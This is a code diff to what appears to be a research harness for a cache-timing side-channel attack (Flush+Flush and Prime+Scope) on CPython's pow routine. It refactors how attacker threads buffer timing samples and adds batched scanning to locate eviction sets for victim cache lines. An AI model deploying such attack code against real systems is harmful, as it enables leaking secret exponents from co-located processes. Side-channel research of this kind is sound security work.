@@ -25,9 +25,6 @@ CPYTHON_TARGET_CACHELINE(DECLARE_CACHE_LINE);
 sync_ctx_t sync_ctx;
 uint64_t victim_runs = 1;
 
-static uint64_t tsc_buffer[CACHE_LINE_COUNT * PROFILE_ITERATIONS];
-static uint64_t lat_buffer[CACHE_LINE_COUNT * PROFILE_ITERATIONS];
-
 static double cz_freq = 18.46, aw_freq = 18.18, at_freq = 18.18,
               aw_side_freq = 3.15, at_side_freq = 3.15;
 
@@ -42,6 +39,7 @@ static const char *key_path_at =
 static uint64_t *sample_tsc[CACHE_LINE_COUNT];
 static uint64_t *probe_time[CACHE_LINE_COUNT];
 static uint64_t *reload_time[CACHE_LINE_COUNT];
+static uint64_t sample_count[CACHE_LINE_COUNT];
 
 enum {
 	cache_line_count = CACHE_LINE_COUNT,
@@ -51,12 +49,27 @@ static const uint64_t max_exec_cycles = (uint64_t)3e9;
 static const char *test_name = "cpython_pow";
 static pthread_barrier_t attacker_threads_barrier;
 
+static int init_sample_buffer(sample_buffer_t *buffer,
+                              uint64_t **sample_tsc,
+                              uint64_t **latency) {
+	char dirpath[256];
+	snprintf(
+	    dirpath, sizeof(dirpath), "output/%s_r%05lu", test_name, victim_runs);
+	return sample_buffer_init(buffer,
+	                          dirpath,
+	                          sample_tsc,
+	                          latency,
+	                          CACHE_LINE_COUNT,
+	                          PROFILE_ITERATIONS,
+	                          pinned_writer_cpu);
+}
+
 void FF_profile_pow() {
 	static const uint64_t waiting_time = 80000;
+	sample_buffer_t sample_buffer;
 
-	for (int i = 0; i < CACHE_LINE_COUNT; ++i) {
-		sample_tsc[i] = tsc_buffer + i * PROFILE_ITERATIONS;
-		reload_time[i] = lat_buffer + i * PROFILE_ITERATIONS;
+	if (init_sample_buffer(&sample_buffer, sample_tsc, reload_time)) {
+		return;
 	}
 
 	init_sync_ctx(CPYTHON_PROJ_ID);
@@ -65,12 +78,21 @@ void FF_profile_pow() {
 
 	pthread_barrier_wait(sync_ctx.barrier);
 
+	// The runtime has created the ring before the barrier
+	sample_buffer.gt_ring = gt_ring_attach(CPYTHON_PROJ_ID);
+
 	CPYTHON_TARGET_CACHELINE(TARGET_ADDRESS_OFFSET)
 
+	for (int j = 0; j < CACHE_LINE_COUNT; ++j) {
+		capture_profiling_thread(
+		    j, TRACE_ATTACK_FR, -1, 0, PROFILE_ITERATIONS, 0);
+	}
+
 	for (int i = 0; i < (int)victim_runs; ++i) {
 		log_info("Attacker Iteration %d", i);
 
 		int index = 0;
+		capture_victim_action(SYNC_CTX_START);
 		sync_ctx_set_action(SYNC_CTX_START);
 		pthread_barrier_wait(sync_ctx.barrier);
 
@@ -94,17 +116,11 @@ void FF_profile_pow() {
 
 		pthread_barrier_wait(sync_ctx.barrier);
 
-		dump_profiling_traces(test_name,
-		                      victim_runs,
-		                      sample_tsc,
-		                      reload_time,
-		                      CACHE_LINE_COUNT,
-		                      index,
-		                      index == 0);
-
-		memset(tsc_buffer, 0, sizeof(tsc_buffer));
-		memset(lat_buffer, 0, sizeof(lat_buffer));
+		if (sample_buffer_commit(&sample_buffer, NULL, index)) {
+			break;
+		}
 	}
+	sample_buffer_destroy(&sample_buffer);
 
 	sync_ctx_set_action(SYNC_CTX_EXIT);
 	pthread_barrier_wait(sync_ctx.barrier);
@@ -128,12 +144,14 @@ static int check_gap_at(uint64_t *p, uint32_t n) {
 }
 
 static EVSet *identify_one_target(const csi_params_t *p,
-                                  uint64_t *id_tsc_buf,
-                                  uint64_t *id_probe_buf,
+                                  uint64_t **id_tsc,
+                                  uint64_t **id_probe,
                                   int *l3_index_out) {
 	config_t *cfg = get_config();
-	uint64_t *id_sample_tsc[1] = { id_tsc_buf };
-	uint64_t *id_probe_time[1] = { id_probe_buf };
+	int scan_sets = PS_scan_sets(), scan_cnt = 0;
+	EVSet *scan_evset[PRIME_SCOPE_MAX_SETS];
+	int scan_l3_set[PRIME_SCOPE_MAX_SETS];
+	uint64_t scan_count[PRIME_SCOPE_MAX_SETS];
 
 	snprintf((char *)sync_ctx.data,
 	         sync_ctx_data_size,
@@ -156,62 +174,78 @@ static EVSet *identify_one_target(const csi_params_t *p,
 	/* 	evset = prepare_evset( */
 	/* 	    (uint8_t *)(target_absorb_window + 2 * CACHE_LINE_SIZE), &hctrl); */
 	/* } */
-	for (int l3_set = 0; l3_set < (int)cfg->l3.sets; ++l3_set) {
-		if ((uint32_t)(l3_set % NUM_PAGE_SLOTS) != p->page_slot) {
-			continue;
-		}
-
-		log_debug("%s l3_set: %x", p->label, l3_set);
-
-		evset = get_sf_kth_evset(l3_set);
-
-		if (!evset) {
-			log_error("Cannot build evset for set %d", l3_set);
-			continue;
-		}
+	// Candidates are screened scan_sets per victim run, the extra l3_set
+	// screens the last batch
+	for (int l3_set = 0; l3_set <= (int)cfg->l3.sets; ++l3_set) {
+		if (l3_set < (int)cfg->l3.sets) {
+			if ((uint32_t)(l3_set % NUM_PAGE_SLOTS) != p->page_slot) {
+				continue;
+			}
 
-		memset(id_tsc_buf, 0, sizeof(uint64_t) * PROFILE_ITERATIONS);
-		memset(id_probe_buf, 0, sizeof(uint64_t) * PROFILE_ITERATIONS);
+			log_debug("%s l3_set: %x", p->label, l3_set);
 
-		PS_profile_once(evset,
-		                0,
-		                PROFILE_ITERATIONS,
-		                max_exec_cycles,
-		                id_sample_tsc,
-		                id_probe_time);
+			evset = get_sf_kth_evset(l3_set);
 
-		int sample_cnt = 0;
-		while (sample_cnt < PROFILE_ITERATIONS && id_tsc_buf[sample_cnt] != 0) {
-			++sample_cnt;
+			if (!evset) {
+				log_error("Cannot build evset for set %d", l3_set);
+				continue;
+			}
+			scan_evset[scan_cnt] = evset;
+			scan_l3_set[scan_cnt] = l3_set;
+			if (++scan_cnt < scan_sets) {
+				continue;
+			}
+		} else if (scan_cnt == 0) {
+			break;
 		}
 
-		log_info("Check %s Set: %d(%x), Count %d",
-		         p->label,
-		         l3_set,
-		         l3_set,
-		         sample_cnt);
-
-		if (sample_cnt > 256) {
-			dump_profiling_trace(
-			    test_name, l3_set, id_sample_tsc, id_probe_time, 1, sample_cnt);
-			if (p->check_fn(id_tsc_buf, sample_cnt)) {
-				*l3_index_out = l3_set;
-				log_info(LOG_BOLD_ON
-				         "Find %s evset Set: %d %p, Count %d" LOG_BOLD_OFF,
-				         p->label,
-				         l3_set,
-				         evset,
-				         sample_cnt);
-				return evset;
+		PS_profile_multi(scan_evset,
+		                 scan_cnt,
+		                 PROFILE_ITERATIONS,
+		                 max_exec_cycles,
+		                 id_tsc,
+		                 id_probe,
+		                 scan_count);
+
+		for (int k = 0; k < scan_cnt; ++k) {
+			int set = scan_l3_set[k];
+			int sample_cnt = scan_count[k];
+
+			log_info("Check %s Set: %d(%x), Count %d",
+			         p->label,
+			         set,
+			         set,
+			         sample_cnt);
+
+			if (sample_cnt > 256) {
+				dump_profiling_trace(test_name,
+				                     set,
+				                     &id_tsc[k],
+				                     &id_probe[k],
+				                     &scan_count[k],
+				                     1,
+				                     sample_cnt);
+				if (p->check_fn(id_tsc[k], sample_cnt)) {
+					*l3_index_out = set;
+					log_info(LOG_BOLD_ON
+					         "Find %s evset Set: %d %p, Count %d" LOG_BOLD_OFF,
+					         p->label,
+					         set,
+					         scan_evset[k],
+					         sample_cnt);
+					return scan_evset[k];
+				}
 			}
 		}
+		scan_cnt = 0;
 	}
 	return NULL;
 }
 
 static int identify_cpython_target_sets(EVSet **evset_cz,
                                         EVSet **evset_aw,
-                                        EVSet **evset_at) {
+                                        EVSet **evset_at,
+                                        int *l3_indices) {
 	log_info("l2 thres %d, interrupt thres %d",
 	         detected_cache_lats.l2_thresh,
 	         detected_cache_lats.interrupt_thresh);
@@ -222,8 +256,13 @@ static int identify_cpython_target_sets(EVSet **evset_cz,
 		return 0;
 	}
 
-	static uint64_t id_tsc_buf[PROFILE_ITERATIONS];
-	static uint64_t id_probe_buf[PROFILE_ITERATIONS];
+	static uint64_t id_tsc_buf[PRIME_SCOPE_MAX_SETS][PROFILE_ITERATIONS];
+	static uint64_t id_probe_buf[PRIME_SCOPE_MAX_SETS][PROFILE_ITERATIONS];
+	uint64_t *id_tsc[PRIME_SCOPE_MAX_SETS], *id_probe[PRIME_SCOPE_MAX_SETS];
+	for (int k = 0; k < PRIME_SCOPE_MAX_SETS; ++k) {
+		id_tsc[k] = id_tsc_buf[k];
+		id_probe[k] = id_probe_buf[k];
+	}
 
 	csi_params_t targets[] = {
 		{
@@ -249,7 +288,6 @@ static int identify_cpython_target_sets(EVSet **evset_cz,
 		},
 	};
 	EVSet **evset_outs[] = { evset_cz, evset_aw, evset_at };
-	int l3_indices[] = { -1, -1, -1 };
 
 	log_info("cz slot %x, aw slot %x, at slot %x",
 	         targets[0].page_slot,
@@ -258,7 +296,7 @@ static int identify_cpython_target_sets(EVSet **evset_cz,
 
 	for (int i = 0; i < 3; ++i) {
 		*evset_outs[i] = identify_one_target(
-		    &targets[i], id_tsc_buf, id_probe_buf, &l3_indices[i]);
+		    &targets[i], id_tsc, id_probe, &l3_indices[i]);
 		if (*evset_outs[i] == NULL) {
 			log_error("Could not find evset for %s", targets[i].label);
 			stop_helper_thread(&hctrl);
@@ -330,12 +368,8 @@ void PS_profile_pow(int use_csi) {
 
 	CPYTHON_TARGET_CACHELINE(TARGET_ADDRESS_OFFSET);
 
-	for (int i = 0; i < CACHE_LINE_COUNT; ++i) {
-		sample_tsc[i] = tsc_buffer + i * PROFILE_ITERATIONS;
-		probe_time[i] = lat_buffer + i * PROFILE_ITERATIONS;
-	}
-
 	EVSet *evset_cz = NULL, *evset_aw = NULL, *evset_at = NULL;
+	int l3_indices[CACHE_LINE_COUNT] = { -1, -1, -1 };
 	if (use_csi) {
 		if (cache_env_init(1)) {
 			log_error("Failed to initialize cache env!\n");
@@ -356,7 +390,8 @@ void PS_profile_pow(int use_csi) {
 	log_info("Attacker initialization done %lu", rdtscp());
 
 	if (use_csi) {
-		if (!identify_cpython_target_sets(&evset_cz, &evset_aw, &evset_at)) {
+		if (!identify_cpython_target_sets(
+		        &evset_cz, &evset_aw, &evset_at, l3_indices)) {
 			log_error("Could not find target sets for cz, aw, and at");
 			sync_ctx_set_action(SYNC_CTX_EXIT);
 			pthread_barrier_wait(sync_ctx.barrier);
@@ -386,6 +421,7 @@ void PS_profile_pow(int use_csi) {
 	pt_consume_zero.target =
 	    (uint8_t *)((uintptr_t)target_consume_zero + 2 * CACHE_LINE_SIZE);
 	pt_consume_zero.evset = evset_cz;
+	pt_consume_zero.l3_set = l3_indices[0];
 
 	PS_thread_config_init(pt_absorb_window);
 	pt_absorb_window.label = "absorb_window";
@@ -394,6 +430,7 @@ void PS_profile_pow(int use_csi) {
 	pt_absorb_window.target =
 	    (uint8_t *)((uintptr_t)target_absorb_window + 2 * CACHE_LINE_SIZE);
 	pt_absorb_window.evset = evset_aw;
+	pt_absorb_window.l3_set = l3_indices[1];
 
 	PS_thread_config_init(pt_absorb_trailing);
 	pt_absorb_trailing.label = "absorb_trailing";
@@ -402,6 +439,16 @@ void PS_profile_pow(int use_csi) {
 	pt_absorb_trailing.target =
 	    (uint8_t *)((uintptr_t)target_absorb_trailing + 2 * CACHE_LINE_SIZE);
 	pt_absorb_trailing.evset = evset_at;
+	pt_absorb_trailing.l3_set = l3_indices[2];
+
+	sample_buffer_t sample_buffer;
+	if (init_sample_buffer(&sample_buffer, sample_tsc, probe_time)) {
+		return;
+	}
+	sample_buffer.gt_ring = gt_ring_attach(CPYTHON_PROJ_ID);
+	pt_consume_zero.buffer = &sample_buffer;
+	pt_absorb_window.buffer = &sample_buffer;
+	pt_absorb_trailing.buffer = &sample_buffer;
 
 	pthread_t thread0 = 0, thread1 = 0, thread2 = 0;
 	pthread_create(&thread0, NULL, PS_attacker_thread, &pt_consume_zero);
@@ -411,6 +458,7 @@ void PS_profile_pow(int use_csi) {
 	pthread_join(thread0, NULL);
 	pthread_join(thread1, NULL);
 	pthread_join(thread2, NULL);
+	sample_buffer_destroy(&sample_buffer);
 
 	sync_ctx_set_action(SYNC_CTX_EXIT);
 	pthread_barrier_wait(sync_ctx.barrier);